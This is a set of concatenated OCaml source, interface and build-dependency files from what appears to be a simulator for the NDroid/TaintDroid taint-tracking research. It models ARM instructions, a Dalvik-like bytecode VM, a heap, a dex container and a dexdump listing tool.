val adds : reg -> reg -> operand2 -> t
val adc : reg -> reg -> operand2 -> t
val sub : reg -> reg -> operand2 -> t
val subs : reg -> reg -> operand2 -> t
val rsb : reg -> reg -> operand2 -> t
val and_ : reg -> reg -> operand2 -> t
val orr : reg -> reg -> operand2 -> t
val eor : reg -> reg -> operand2 -> t
val bic : reg -> reg -> operand2 -> t
val cmp : reg -> operand2 -> t
val cmn : reg -> operand2 -> t
val tst : reg -> operand2 -> t
val mul : reg -> reg -> reg -> t
val mla : reg -> reg -> reg -> reg -> t
val umull : reg -> reg -> reg -> reg -> t
(** [umull rdlo rdhi rm rs] *)

val smull : reg -> reg -> reg -> reg -> t
val clz : reg -> reg -> t
val ldr : reg -> reg -> int -> t
val str : reg -> reg -> int -> t
val ldrb : reg -> reg -> int -> t
val strb : reg -> reg -> int -> t
val ldrh : reg -> reg -> int -> t
val strh : reg -> reg -> int -> t
val push : reg list -> t
val pop : reg list -> t
val bx_lr : t
val blx_reg : reg -> t
val svc : int -> t

val reg_list_mask : reg list -> int
(** Bitmask of a register list. *)

val regs_of_mask : int -> reg list
(** Ascending register list of a bitmask. *)
