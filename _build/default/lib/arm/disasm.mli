(** Disassembler.

    NDroid's authors "manually disassemble libdvm.so, libc.so, libm.so, etc.
    and determine the offsets of these functions" (paper, Sec. V-G); this is
    the corresponding tool for the simulated libraries: raw bytes back to
    the instruction AST, with symbol annotations when a program's label
    table is available. *)

type line = {
  l_addr : int;
  l_raw : int;  (** the encoded word (ARM) or halfword(s) (Thumb) *)
  l_size : int;
  l_insn : Insn.t option;  (** [None] for data / undecodable bytes *)
  l_label : string option;  (** symbol defined at this address *)
}

val range :
  ?mode:Cpu.mode -> ?symbols:(string * int) list -> Memory.t -> start:int ->
  size:int -> line list
(** Decode [size] bytes starting at [start].  Decoding is linear sweep:
    undecodable words are emitted as data lines and skipped by one
    instruction width. *)

val program : Asm.program -> line list
(** Disassemble an assembled program with its own symbols. *)

val pp_line : Format.formatter -> line -> unit
(** e.g. [4a000010:  e0810002    ADD r0, r1, r2]. *)

val pp_listing : Format.formatter -> line list -> unit
