(** Dalvik runtime values.

    The register-based VM stores one value per register slot.  Object values
    hold a stable heap id — never a raw address — because the heap's
    compacting GC moves objects (the Android ≥ 4.0 behaviour that forces
    NDroid to track indirect references, paper Sec. II-A). *)

type t =
  | Null
  | Int of int32
  | Long of int64
  | Float of float  (** single precision, kept rounded to 32 bits *)
  | Double of float
  | Obj of int  (** heap id, see {!Heap} *)

val zero : t
(** The default register value, [Int 0l]. *)

val truthy : t -> bool
(** Used by [if-*z]: non-zero / non-null. *)

val as_int : t -> int32
(** Numeric coercion used by int instructions. @raise Invalid_argument on
    objects. *)

val as_long : t -> int64
val as_float : t -> float
val as_double : t -> float

val equal : t -> t -> bool
val pp : Format.formatter -> t -> unit
val to_string : t -> string
