(** Builder DSL for defining classes and bytecode methods with symbolic
    labels, used by the scenario apps to stand in for compiled dex files. *)

type item =
  | I of Bytecode.t  (** a non-branching instruction *)
  | L of string  (** define a label at the next instruction *)
  | If_l of Bytecode.cmp * Bytecode.reg * Bytecode.reg * string
  | Ifz_l of Bytecode.cmp * Bytecode.reg * string
  | Goto_l of string
  | Packed_switch_l of Bytecode.reg * int32 * string list
      (** packed-switch with labelled targets *)
  | Sparse_switch_l of Bytecode.reg * (int32 * string) list

exception Build_error of string

val code : item list -> Bytecode.t array
(** Resolve labels to instruction indexes. @raise Build_error on undefined
    or duplicate labels. *)

val method_ :
  cls:string ->
  name:string ->
  shorty:string ->
  ?static:bool ->
  ?registers:int ->
  ?handlers:(string * string * string) list ->
  item list ->
  Classes.method_def
(** Build a bytecode method.  [registers] defaults to input count + 8.
    [handlers] are (try-start-label, try-end-label, handler-label)
    catch-alls. [static] defaults to [true]. *)

val native_method :
  cls:string -> name:string -> shorty:string -> ?static:bool -> string ->
  Classes.method_def
(** [native_method ~cls ~name ~shorty symbol]: a method whose body is the
    native function [symbol] in a loaded library. *)

val intrinsic_method :
  cls:string -> name:string -> shorty:string -> ?static:bool -> string ->
  Classes.method_def
(** A framework method; the string names the intrinsic-table entry. *)

val class_ :
  name:string ->
  ?super:string ->
  ?fields:string list ->
  ?static_fields:string list ->
  Classes.method_def list ->
  Classes.class_def
