(** Class, method and field definitions.

    Methods come in three bodies: Dalvik bytecode, [native] (backed by a
    symbol in a loaded native library and invoked through the JNI call
    bridge, paper Sec. V-B "JNI Entry"), and framework intrinsics
    (Java-context methods like [TelephonyManager.getDeviceId] whose bodies
    live in the simulated Android framework, as TaintDroid's modified
    framework provides them). *)

type method_body =
  | Bytecode of Bytecode.t array * handler list
  | Native of string  (** native symbol name registered by a library *)
  | Intrinsic of string  (** key into the VM's intrinsic table *)

and handler = { try_start : int; try_end : int; handler_pc : int }
(** Catch-all exception handler covering instructions
    [try_start, try_end). *)

type method_def = {
  m_class : string;
  m_name : string;
  m_shorty : string;
      (** JNI shorty: return type then parameter types, e.g. ["VL"] for
          [void f(Object)].  Types: V Z B C S I J F D L. *)
  m_static : bool;
  m_registers : int;  (** register count for bytecode bodies *)
  m_body : method_body;
}

type field_def = { fd_name : string; fd_static : bool }

type class_def = {
  c_name : string;
  c_super : string option;
  c_fields : field_def list;
  c_methods : method_def list;
}

val ins_count : method_def -> int
(** Number of input registers: parameters plus [this] for non-static
    methods, derived from the shorty (J and D take one of our registers,
    unlike real Dalvik — values are not split). *)

val param_count : method_def -> int
(** Parameters from the shorty, excluding [this] and the return type. *)

val return_type : method_def -> char
val qualified_name : method_def -> string
(** ["Lcom/Foo;->bar"]. *)

val shorty_params : string -> char list
(** The parameter characters of a shorty. *)
