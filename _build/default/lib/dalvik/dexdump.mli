(** dexdump-style listings of loaded classes.

    The Sec. III study "extracted the Java classes containing native method
    declarations" from dex files; this is the inspection tool for our
    class definitions: class layout (fields, superclass), method headers
    (shorty, access, body kind) and bytecode listings with branch targets. *)

val pp_method : Format.formatter -> Classes.method_def -> unit
val pp_class : Format.formatter -> Classes.class_def -> unit
val pp_classes : Format.formatter -> Classes.class_def list -> unit

val native_methods : Classes.class_def list -> (string * string * string) list
(** (class, method, native symbol) of every native declaration — what the
    study's scanner extracts. *)
