type item =
  | I of Bytecode.t
  | L of string
  | If_l of Bytecode.cmp * Bytecode.reg * Bytecode.reg * string
  | Ifz_l of Bytecode.cmp * Bytecode.reg * string
  | Goto_l of string
  | Packed_switch_l of Bytecode.reg * int32 * string list
  | Sparse_switch_l of Bytecode.reg * (int32 * string) list

exception Build_error of string

let err fmt = Format.kasprintf (fun s -> raise (Build_error s)) fmt

let label_table items =
  let table = Hashtbl.create 16 in
  let idx = ref 0 in
  List.iter
    (fun item ->
      match item with
      | L name ->
        if Hashtbl.mem table name then err "duplicate label %s" name;
        Hashtbl.replace table name !idx
      | I _ | If_l _ | Ifz_l _ | Goto_l _ | Packed_switch_l _ | Sparse_switch_l _
        -> incr idx)
    items;
  table

let resolve table name =
  match Hashtbl.find_opt table name with
  | Some i -> i
  | None -> err "undefined label %s" name

let code items =
  let table = label_table items in
  let insns =
    List.filter_map
      (fun item ->
        match item with
        | L _ -> None
        | I insn -> Some insn
        | If_l (c, a, b, l) -> Some (Bytecode.If (c, a, b, resolve table l))
        | Ifz_l (c, a, l) -> Some (Bytecode.Ifz (c, a, resolve table l))
        | Goto_l l -> Some (Bytecode.Goto (resolve table l))
        | Packed_switch_l (r, first, labels) ->
          Some
            (Bytecode.Packed_switch
               (r, first, Array.of_list (List.map (resolve table) labels)))
        | Sparse_switch_l (r, entries) ->
          Some
            (Bytecode.Sparse_switch
               (r, Array.of_list
                     (List.map (fun (k, l) -> (k, resolve table l)) entries))))
      items
  in
  Array.of_list insns

let method_ ~cls ~name ~shorty ?(static = true) ?registers
    ?(handlers = []) items =
  let table = label_table items in
  let resolved_handlers =
    List.map
      (fun (s, e, h) ->
        { Classes.try_start = resolve table s;
          try_end = resolve table e;
          handler_pc = resolve table h })
      handlers
  in
  let body = Classes.Bytecode (code items, resolved_handlers) in
  let ins = List.length (Classes.shorty_params shorty) + if static then 0 else 1 in
  let registers = match registers with Some r -> r | None -> ins + 8 in
  if registers < ins then err "method %s: %d registers < %d inputs" name registers ins;
  { Classes.m_class = cls; m_name = name; m_shorty = shorty; m_static = static;
    m_registers = registers; m_body = body }

let native_method ~cls ~name ~shorty ?(static = true) symbol =
  { Classes.m_class = cls; m_name = name; m_shorty = shorty; m_static = static;
    m_registers = 0; m_body = Classes.Native symbol }

let intrinsic_method ~cls ~name ~shorty ?(static = true) key =
  { Classes.m_class = cls; m_name = name; m_shorty = shorty; m_static = static;
    m_registers = 0; m_body = Classes.Intrinsic key }

let class_ ~name ?super ?(fields = []) ?(static_fields = []) methods =
  { Classes.c_name = name;
    c_super = super;
    c_fields =
      List.map (fun f -> { Classes.fd_name = f; fd_static = false }) fields
      @ List.map (fun f -> { Classes.fd_name = f; fd_static = true }) static_fields;
    c_methods = methods }
