lib/dalvik/jbuilder.mli: Bytecode Classes
