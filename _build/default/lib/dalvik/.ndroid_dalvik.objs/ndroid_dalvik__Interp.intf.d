lib/dalvik/interp.mli: Classes Vm
