lib/dalvik/vm.mli: Bytecode Classes Dvalue Hashtbl Heap Ndroid_taint
