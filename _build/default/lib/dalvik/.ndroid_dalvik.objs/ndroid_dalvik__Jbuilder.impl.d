lib/dalvik/jbuilder.ml: Array Bytecode Classes Format Hashtbl List
