lib/dalvik/dexdump.ml: Array Bytecode Classes Format List Printf
