lib/dalvik/bytecode.mli: Dvalue Format
