lib/dalvik/heap.ml: Array Dvalue Hashtbl List Ndroid_taint String
