lib/dalvik/dvalue.mli: Format
