lib/dalvik/dvalue.ml: Format Int32 Int64
