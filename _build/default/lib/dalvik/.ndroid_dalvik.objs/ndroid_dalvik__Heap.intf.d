lib/dalvik/heap.mli: Dvalue Ndroid_taint
