lib/dalvik/classes.ml: Bytecode List String
