lib/dalvik/dexfile.ml: Array Buffer Bytecode Char Classes Dvalue Format Hashtbl Int32 Int64 List String
