lib/dalvik/bytecode.ml: Array Dvalue Format
