lib/dalvik/vm.ml: Array Bytecode Classes Dvalue Format Hashtbl Heap List Ndroid_taint
