lib/dalvik/classes.mli: Bytecode
