lib/dalvik/dexfile.mli: Classes
