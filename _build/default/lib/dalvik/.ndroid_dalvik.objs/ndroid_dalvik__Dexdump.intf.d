lib/dalvik/dexdump.mli: Classes Format
