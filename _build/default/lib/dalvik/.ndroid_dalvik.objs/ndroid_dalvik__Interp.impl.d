lib/dalvik/interp.ml: Array Bytecode Classes Dvalue Float Hashtbl Heap Int32 Int64 List Ndroid_taint Printf String Vm
