(** Dalvik-like register bytecode.

    A compact model of the Dalvik instruction set: enough to express the
    paper's scenario apps (sources, string handling, JNI invocations, field
    traffic, control flow, exceptions) while keeping one taint-propagation
    rule per constructor, as TaintDroid defines one rule per DVM opcode
    (paper, Sec. II-B). Branch targets are instruction indexes, resolved
    from symbolic labels by {!Jbuilder}. *)

type reg = int

type cmp = Eq | Ne | Lt | Ge | Gt | Le

type binop =
  | Add
  | Sub
  | Mul
  | Div
  | Rem
  | And
  | Or
  | Xor
  | Shl
  | Shr
  | Ushr

type unop =
  | Neg
  | Not
  | Int_to_long
  | Int_to_float
  | Int_to_double
  | Long_to_int
  | Float_to_int
  | Double_to_int
  | Float_to_double
  | Double_to_float

type invoke_kind = Virtual | Static | Direct

type field_ref = { f_class : string; f_name : string }
type method_ref = { m_class : string; m_name : string }

type t =
  | Nop
  | Const of reg * Dvalue.t  (** const / const-wide; clears the register taint *)
  | Const_string of reg * string  (** const-string: allocates a String *)
  | Move of reg * reg
  | Move_result of reg  (** move-result(-object): reads InterpSaveState *)
  | Move_exception of reg
  | Return_void
  | Return of reg
  | Binop of binop * reg * reg * reg  (** dst, src1, src2 — int arithmetic *)
  | Binop_wide of binop * reg * reg * reg  (** 64-bit long arithmetic *)
  | Binop_float of binop * reg * reg * reg
  | Binop_double of binop * reg * reg * reg
  | Binop_lit of binop * reg * reg * int32  (** dst, src, literal *)
  | Unop of unop * reg * reg
  | Cmp_long of reg * reg * reg  (** -1/0/1 comparison result *)
  | If of cmp * reg * reg * int
  | Ifz of cmp * reg * int
  | Goto of int
  | New_instance of reg * string
  | New_array of reg * reg * string  (** dst, size-reg, element type *)
  | Array_length of reg * reg
  | Aget of reg * reg * reg  (** value, array, index *)
  | Aput of reg * reg * reg  (** value, array, index *)
  | Iget of reg * reg * field_ref  (** value, object *)
  | Iput of reg * reg * field_ref
  | Sget of reg * field_ref
  | Sput of reg * field_ref
  | Invoke of invoke_kind * method_ref * reg list
      (** args include [this] for non-static calls *)
  | Throw of reg
  | Check_cast of reg * string
  | Instance_of of reg * reg * string
  | Packed_switch of reg * int32 * int array
      (** [(value, first_key, targets)]: jump to [targets.(v - first_key)]
          when in range, else fall through *)
  | Sparse_switch of reg * (int32 * int) array
      (** (key, target) pairs; fall through when no key matches *)

val pp : Format.formatter -> t -> unit
val to_string : t -> string
