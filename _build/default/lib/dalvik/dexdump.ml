let pp_method ppf (m : Classes.method_def) =
  let kind =
    match m.Classes.m_body with
    | Classes.Bytecode (code, handlers) ->
      Printf.sprintf "bytecode (%d insns%s)" (Array.length code)
        (if handlers = [] then ""
         else Printf.sprintf ", %d handlers" (List.length handlers))
    | Classes.Native symbol -> Printf.sprintf "native (%s)" symbol
    | Classes.Intrinsic key -> Printf.sprintf "intrinsic (%s)" key
  in
  Format.fprintf ppf "  %s %s : %s   [%s, %d registers]@."
    (if m.Classes.m_static then "static" else "virtual")
    m.Classes.m_name m.Classes.m_shorty kind m.Classes.m_registers;
  match m.Classes.m_body with
  | Classes.Bytecode (code, handlers) ->
    Array.iteri
      (fun i insn -> Format.fprintf ppf "    %04d: %a@." i Bytecode.pp insn)
      code;
    List.iter
      (fun h ->
        Format.fprintf ppf "    catch-all [%04d, %04d) -> %04d@."
          h.Classes.try_start h.Classes.try_end h.Classes.handler_pc)
      handlers
  | Classes.Native _ | Classes.Intrinsic _ -> ()

let pp_class ppf (c : Classes.class_def) =
  Format.fprintf ppf "class %s" c.Classes.c_name;
  (match c.Classes.c_super with
   | Some s -> Format.fprintf ppf " extends %s" s
   | None -> ());
  Format.fprintf ppf "@.";
  List.iter
    (fun f ->
      Format.fprintf ppf "  %sfield %s@."
        (if f.Classes.fd_static then "static " else "")
        f.Classes.fd_name)
    c.Classes.c_fields;
  List.iter (pp_method ppf) c.Classes.c_methods

let pp_classes ppf classes =
  List.iter
    (fun c ->
      pp_class ppf c;
      Format.fprintf ppf "@.")
    classes

let native_methods classes =
  List.concat_map
    (fun (c : Classes.class_def) ->
      List.filter_map
        (fun (m : Classes.method_def) ->
          match m.Classes.m_body with
          | Classes.Native symbol -> Some (c.Classes.c_name, m.Classes.m_name, symbol)
          | Classes.Bytecode _ | Classes.Intrinsic _ -> None)
        c.Classes.c_methods)
    classes
