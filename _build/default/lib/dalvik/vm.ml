module Taint = Ndroid_taint.Taint

type tval = Dvalue.t * Taint.t

exception Dvm_error of string
exception Java_throw of tval

type counters = {
  mutable bytecodes : int;
  mutable invokes : int;
  mutable native_calls : int;
  mutable jni_env_calls : int;
}

type t = {
  classes : (string, Classes.class_def) Hashtbl.t;
  statics : (string, tval ref) Hashtbl.t;
  heap : Heap.t;
  intrinsics : (string, t -> tval array -> tval) Hashtbl.t;
  mutable native_dispatch : (t -> Classes.method_def -> tval array -> tval) option;
  mutable track_taint : bool;
  mutable on_bytecode : (Classes.method_def -> Bytecode.t -> unit) option;
  mutable on_invoke : (Classes.method_def -> unit) option;
  mutable ret : tval;
  counters : counters;
}

let err fmt = Format.kasprintf (fun s -> raise (Dvm_error s)) fmt

let create () =
  { classes = Hashtbl.create 64;
    statics = Hashtbl.create 64;
    heap = Heap.create ();
    intrinsics = Hashtbl.create 64;
    native_dispatch = None;
    track_taint = true;
    on_bytecode = None;
    on_invoke = None;
    ret = (Dvalue.zero, Taint.clear);
    counters = { bytecodes = 0; invokes = 0; native_calls = 0; jni_env_calls = 0 } }

let define_class vm cls =
  if Hashtbl.mem vm.classes cls.Classes.c_name then
    err "class %s already defined" cls.Classes.c_name;
  Hashtbl.replace vm.classes cls.Classes.c_name cls

let find_class vm name =
  match Hashtbl.find_opt vm.classes name with
  | Some c -> c
  | None -> err "class %s not found" name

let rec find_method vm cls_name m_name =
  let cls = find_class vm cls_name in
  match
    List.find_opt (fun m -> m.Classes.m_name = m_name) cls.Classes.c_methods
  with
  | Some m -> m
  | None -> (
    match cls.Classes.c_super with
    | Some super -> find_method vm super m_name
    | None -> err "method %s->%s not found" cls_name m_name)

let rec field_layout vm cls_name =
  let cls = find_class vm cls_name in
  let inherited =
    match cls.Classes.c_super with Some s -> field_layout vm s | None -> []
  in
  let next = List.length inherited in
  let own =
    List.filteri (fun _ f -> not f.Classes.fd_static) cls.Classes.c_fields
  in
  inherited
  @ List.mapi (fun i f -> (f.Classes.fd_name, next + i)) own

let field_index vm cls_name f_name =
  match List.assoc_opt f_name (field_layout vm cls_name) with
  | Some i -> i
  | None -> err "field %s->%s not found" cls_name f_name

let instance_size vm cls_name = List.length (field_layout vm cls_name)

let static_ref vm cls_name f_name =
  let key = cls_name ^ "." ^ f_name in
  match Hashtbl.find_opt vm.statics key with
  | Some r -> r
  | None ->
    let r = ref (Dvalue.zero, Taint.clear) in
    Hashtbl.replace vm.statics key r;
    r

let register_intrinsic vm key f = Hashtbl.replace vm.intrinsics key f

let new_string vm ?(taint = Taint.clear) s =
  let o = Heap.alloc_string vm.heap s in
  o.Heap.taint <- taint;
  (Dvalue.Obj o.Heap.id, taint)

let string_of_value vm = function
  | Dvalue.Obj id -> (
    try Heap.string_value vm.heap id
    with Invalid_argument _ | Not_found -> err "not a string object")
  | Dvalue.Null -> err "null string"
  | Dvalue.Int _ | Dvalue.Long _ | Dvalue.Float _ | Dvalue.Double _ ->
    err "not a string object"

let throw vm cls msg =
  (* A Java exception object: one slot for the detail message. *)
  let o = Heap.alloc_instance vm.heap cls 1 in
  let msg_v, msg_t = new_string vm msg in
  (match o.Heap.kind with
   | Heap.Instance { values; taints; _ } ->
     values.(0) <- msg_v;
     taints.(0) <- msg_t
   | Heap.String _ | Heap.Array _ -> assert false);
  raise (Java_throw (Dvalue.Obj o.Heap.id, Taint.clear))
