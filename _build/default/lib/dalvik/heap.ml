module Taint = Ndroid_taint.Taint

type kind =
  | String of string
  | Array of { elem_type : string; elems : Dvalue.t array }
  | Instance of { cls : string; values : Dvalue.t array; taints : Taint.t array }

type obj = {
  id : int;
  mutable addr : int;
  mutable kind : kind;
  mutable taint : Taint.t;
}

type t = {
  objects : (int, obj) Hashtbl.t;
  by_addr : (int, int) Hashtbl.t;  (* direct pointer -> id *)
  mutable next_id : int;
  mutable bump : int;
  base : int;
  mutable epoch : int;
  mutable allocations : int;
}

let create ?(base = 0x41000000) () =
  { objects = Hashtbl.create 256;
    by_addr = Hashtbl.create 256;
    next_id = 1;
    bump = base;
    base;
    epoch = 0;
    allocations = 0 }

(* Object "sizes" for address spacing: enough that direct pointers look like
   real, distinct allocations in the logs. *)
let obj_size kind =
  let payload =
    match kind with
    | String s -> String.length s * 2
    | Array { elems; _ } -> Array.length elems * 4
    | Instance { values; _ } -> Array.length values * 8
  in
  (16 + payload + 7) land lnot 7

let alloc h kind =
  let id = h.next_id in
  h.next_id <- id + 1;
  let addr = h.bump in
  h.bump <- h.bump + obj_size kind;
  let o = { id; addr; kind; taint = Taint.clear } in
  Hashtbl.replace h.objects id o;
  Hashtbl.replace h.by_addr addr id;
  h.allocations <- h.allocations + 1;
  o

let alloc_string h s = alloc h (String s)

let alloc_array h elem_type n =
  alloc h (Array { elem_type; elems = Array.make n Dvalue.zero })

let alloc_instance h cls nfields =
  alloc h
    (Instance
       { cls;
         values = Array.make nfields Dvalue.zero;
         taints = Array.make nfields Taint.clear })

let get h id = Hashtbl.find h.objects id

let find_by_addr h addr =
  match Hashtbl.find_opt h.by_addr addr with
  | Some id -> Hashtbl.find_opt h.objects id
  | None -> None

let string_value h id =
  match (get h id).kind with
  | String s -> s
  | Array _ | Instance _ -> invalid_arg "Heap.string_value: not a string"

let set_string_value h id s =
  let o = get h id in
  match o.kind with
  | String _ -> o.kind <- String s
  | Array _ | Instance _ -> invalid_arg "Heap.set_string_value: not a string"

let compact h =
  (* Two semispaces: alternate the bump base so every address changes. *)
  h.epoch <- h.epoch + 1;
  let semispace = if h.epoch land 1 = 1 then h.base + 0x00400000 else h.base in
  Hashtbl.reset h.by_addr;
  let bump = ref semispace in
  (* Move objects in ascending id order for determinism. *)
  let ids = Hashtbl.fold (fun id _ acc -> id :: acc) h.objects [] in
  List.iter
    (fun id ->
      let o = Hashtbl.find h.objects id in
      o.addr <- !bump;
      bump := !bump + obj_size o.kind;
      Hashtbl.replace h.by_addr o.addr o.id)
    (List.sort compare ids);
  h.bump <- !bump

let epoch h = h.epoch
let live_objects h = Hashtbl.length h.objects
let allocations h = h.allocations
let iter h f = Hashtbl.iter (fun _ o -> f o) h.objects
