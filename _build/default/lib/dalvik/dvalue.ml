type t =
  | Null
  | Int of int32
  | Long of int64
  | Float of float
  | Double of float
  | Obj of int

let zero = Int 0l

let truthy = function
  | Null -> false
  | Int n -> n <> 0l
  | Long n -> n <> 0L
  | Float f -> f <> 0.0
  | Double f -> f <> 0.0
  | Obj _ -> true

let as_int = function
  | Int n -> n
  | Long n -> Int64.to_int32 n
  | Float f -> Int32.of_float f
  | Double f -> Int32.of_float f
  | Null -> 0l
  | Obj _ -> invalid_arg "Dvalue.as_int: object value"

let as_long = function
  | Int n -> Int64.of_int32 n
  | Long n -> n
  | Float f -> Int64.of_float f
  | Double f -> Int64.of_float f
  | Null -> 0L
  | Obj _ -> invalid_arg "Dvalue.as_long: object value"

let as_float = function
  | Int n -> Int32.to_float n
  | Long n -> Int64.to_float n
  | Float f -> f
  | Double f -> Int32.float_of_bits (Int32.bits_of_float f)
  | Null -> 0.0
  | Obj _ -> invalid_arg "Dvalue.as_float: object value"

let as_double = function
  | Int n -> Int32.to_float n
  | Long n -> Int64.to_float n
  | Float f -> f
  | Double f -> f
  | Null -> 0.0
  | Obj _ -> invalid_arg "Dvalue.as_double: object value"

let equal a b =
  match (a, b) with
  | Null, Null -> true
  | Int x, Int y -> x = y
  | Long x, Long y -> x = y
  | Float x, Float y -> x = y
  | Double x, Double y -> x = y
  | Obj x, Obj y -> x = y
  | (Null | Int _ | Long _ | Float _ | Double _ | Obj _), _ -> false

let pp ppf = function
  | Null -> Format.pp_print_string ppf "null"
  | Int n -> Format.fprintf ppf "%ld" n
  | Long n -> Format.fprintf ppf "%LdL" n
  | Float f -> Format.fprintf ppf "%gf" f
  | Double f -> Format.fprintf ppf "%g" f
  | Obj id -> Format.fprintf ppf "obj#%d" id

let to_string v = Format.asprintf "%a" pp v
