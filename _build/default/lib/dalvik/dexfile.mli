(** A dex-like container for class definitions.

    Apps ship their Java side as [classes.dex]; here a list of
    {!Classes.class_def} serializes to a compact binary image — magic,
    string pool, class table, method bodies with one opcode byte per
    instruction — and parses back to structurally identical definitions.
    The corpus's Type II "hidden dex" apps are exactly files of this kind
    sitting inside an APK, and {!of_string} is what "dynamically loading a
    dex file" reads. *)

exception Bad_dex of string

val to_string : Classes.class_def list -> string
val of_string : string -> Classes.class_def list
(** @raise Bad_dex on corrupt input. *)

val magic : string
(** ["dex\n042\x00"], like the real format's magic/version. *)
