(** The Dalvik VM state: loaded classes, static fields, the heap, the
    intrinsic (framework-method) table, and the native-dispatch hook that the
    runtime layer points at the JNI call bridge.

    Mirrors the pieces of TaintDroid's modified DVM that matter for taint:
    static fields store their tag next to the value, the per-thread
    [InterpSaveState] holds the return value's taint (paper, Fig. 1), and
    [track_taint] turns the whole propagation machinery on or off (off =
    the "vanilla" baseline of the Fig. 10 experiment). *)

module Taint = Ndroid_taint.Taint

type tval = Dvalue.t * Taint.t
(** A value together with its taint tag. *)

exception Dvm_error of string
(** Linkage-style error: missing class, method, field, … *)

exception Java_throw of tval
(** An in-flight Java exception (the thrown object and its taint). *)

type counters = {
  mutable bytecodes : int;  (** bytecode instructions executed *)
  mutable invokes : int;  (** method invocations *)
  mutable native_calls : int;  (** JNI call-bridge crossings *)
  mutable jni_env_calls : int;  (** native→Java JNI function calls *)
}

type t = {
  classes : (string, Classes.class_def) Hashtbl.t;
  statics : (string, tval ref) Hashtbl.t;
  heap : Heap.t;
  intrinsics : (string, t -> tval array -> tval) Hashtbl.t;
  mutable native_dispatch : (t -> Classes.method_def -> tval array -> tval) option;
  mutable track_taint : bool;
  mutable on_bytecode : (Classes.method_def -> Bytecode.t -> unit) option;
  mutable on_invoke : (Classes.method_def -> unit) option;
      (** fired at every bytecode-method entry — the [dvmInterpret] entry
          point; the always-hook ablation (A2) instruments here *)
  mutable ret : tval;  (** InterpSaveState: last returned value + taint *)
  counters : counters;
}

val create : unit -> t

val define_class : t -> Classes.class_def -> unit
(** Register a class. @raise Dvm_error on redefinition. *)

val find_class : t -> string -> Classes.class_def
val find_method : t -> string -> string -> Classes.method_def
(** [find_method vm cls name] resolves along the superclass chain.
    @raise Dvm_error when absent. *)

val field_layout : t -> string -> (string * int) list
(** Flattened instance-field layout (field name, slot index) including
    superclass fields. *)

val field_index : t -> string -> string -> int
val instance_size : t -> string -> int

val static_ref : t -> string -> string -> tval ref
(** The cell of a static field, creating it (zero, clear) on first use. *)

val register_intrinsic : t -> string -> (t -> tval array -> tval) -> unit
(** [register_intrinsic vm "Lcls;->name" f] provides a framework method. *)

val new_string : t -> ?taint:Taint.t -> string -> tval
(** Allocate a Java string; convenience for intrinsics and JNI. *)

val string_of_value : t -> Dvalue.t -> string
(** Chars of a string-object value. @raise Dvm_error otherwise. *)

val throw : t -> string -> string -> 'a
(** [throw vm cls msg] allocates an exception object carrying [msg] and
    raises {!Java_throw}. *)
