type reg = int
type cmp = Eq | Ne | Lt | Ge | Gt | Le
type binop = Add | Sub | Mul | Div | Rem | And | Or | Xor | Shl | Shr | Ushr

type unop =
  | Neg
  | Not
  | Int_to_long
  | Int_to_float
  | Int_to_double
  | Long_to_int
  | Float_to_int
  | Double_to_int
  | Float_to_double
  | Double_to_float

type invoke_kind = Virtual | Static | Direct

type field_ref = { f_class : string; f_name : string }
type method_ref = { m_class : string; m_name : string }

type t =
  | Nop
  | Const of reg * Dvalue.t
  | Const_string of reg * string
  | Move of reg * reg
  | Move_result of reg
  | Move_exception of reg
  | Return_void
  | Return of reg
  | Binop of binop * reg * reg * reg
  | Binop_wide of binop * reg * reg * reg
  | Binop_float of binop * reg * reg * reg
  | Binop_double of binop * reg * reg * reg
  | Binop_lit of binop * reg * reg * int32
  | Unop of unop * reg * reg
  | Cmp_long of reg * reg * reg
  | If of cmp * reg * reg * int
  | Ifz of cmp * reg * int
  | Goto of int
  | New_instance of reg * string
  | New_array of reg * reg * string
  | Array_length of reg * reg
  | Aget of reg * reg * reg
  | Aput of reg * reg * reg
  | Iget of reg * reg * field_ref
  | Iput of reg * reg * field_ref
  | Sget of reg * field_ref
  | Sput of reg * field_ref
  | Invoke of invoke_kind * method_ref * reg list
  | Throw of reg
  | Check_cast of reg * string
  | Instance_of of reg * reg * string
  | Packed_switch of reg * int32 * int array
  | Sparse_switch of reg * (int32 * int) array

let cmp_name = function
  | Eq -> "eq"
  | Ne -> "ne"
  | Lt -> "lt"
  | Ge -> "ge"
  | Gt -> "gt"
  | Le -> "le"

let binop_name = function
  | Add -> "add"
  | Sub -> "sub"
  | Mul -> "mul"
  | Div -> "div"
  | Rem -> "rem"
  | And -> "and"
  | Or -> "or"
  | Xor -> "xor"
  | Shl -> "shl"
  | Shr -> "shr"
  | Ushr -> "ushr"

let unop_name = function
  | Neg -> "neg"
  | Not -> "not"
  | Int_to_long -> "int-to-long"
  | Int_to_float -> "int-to-float"
  | Int_to_double -> "int-to-double"
  | Long_to_int -> "long-to-int"
  | Float_to_int -> "float-to-int"
  | Double_to_int -> "double-to-int"
  | Float_to_double -> "float-to-double"
  | Double_to_float -> "double-to-float"

let kind_name = function Virtual -> "virtual" | Static -> "static" | Direct -> "direct"

let pp_regs ppf regs =
  Format.pp_print_list
    ~pp_sep:(fun ppf () -> Format.pp_print_string ppf ", ")
    (fun ppf r -> Format.fprintf ppf "v%d" r)
    ppf regs

let pp ppf = function
  | Nop -> Format.pp_print_string ppf "nop"
  | Const (r, v) -> Format.fprintf ppf "const v%d, %a" r Dvalue.pp v
  | Const_string (r, s) -> Format.fprintf ppf "const-string v%d, %S" r s
  | Move (d, s) -> Format.fprintf ppf "move v%d, v%d" d s
  | Move_result r -> Format.fprintf ppf "move-result v%d" r
  | Move_exception r -> Format.fprintf ppf "move-exception v%d" r
  | Return_void -> Format.pp_print_string ppf "return-void"
  | Return r -> Format.fprintf ppf "return v%d" r
  | Binop (op, d, a, b) ->
    Format.fprintf ppf "%s-int v%d, v%d, v%d" (binop_name op) d a b
  | Binop_wide (op, d, a, b) ->
    Format.fprintf ppf "%s-long v%d, v%d, v%d" (binop_name op) d a b
  | Binop_float (op, d, a, b) ->
    Format.fprintf ppf "%s-float v%d, v%d, v%d" (binop_name op) d a b
  | Binop_double (op, d, a, b) ->
    Format.fprintf ppf "%s-double v%d, v%d, v%d" (binop_name op) d a b
  | Binop_lit (op, d, a, lit) ->
    Format.fprintf ppf "%s-int/lit v%d, v%d, #%ld" (binop_name op) d a lit
  | Unop (op, d, s) -> Format.fprintf ppf "%s v%d, v%d" (unop_name op) d s
  | Cmp_long (d, a, b) -> Format.fprintf ppf "cmp-long v%d, v%d, v%d" d a b
  | If (c, a, b, t) -> Format.fprintf ppf "if-%s v%d, v%d, @%d" (cmp_name c) a b t
